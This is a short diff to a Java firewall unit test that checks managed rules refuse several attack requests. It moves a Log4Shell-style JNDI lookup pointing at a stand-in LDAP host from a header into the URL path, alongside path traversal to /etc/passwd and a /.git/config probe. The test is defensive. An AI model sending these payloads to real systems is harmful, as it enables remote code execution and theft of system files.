@@ -48,7 +48,8 @@ final class FirewallTest {
         List.of(
             request("/v1/../../etc/passwd", Map.of("User-Agent", "x")),
             request("/.git/config", Map.of("User-Agent", "x")),
-            request("/v1/about", Map.of("User-Agent", "${jndi:ldap://203.0.113.5/a}")))) {
+            request("/v1/${jndi:ldap://203.0.113.5/a}", Map.of("User-Agent", "x")),
+            request("/v1/about", Map.of("User-Agent", "x", "Host", "localhost")))) {
       assertThat(ManagedRules.refusing(attack, firewall)).as(attack.path()).isNotEmpty();
     }
   }
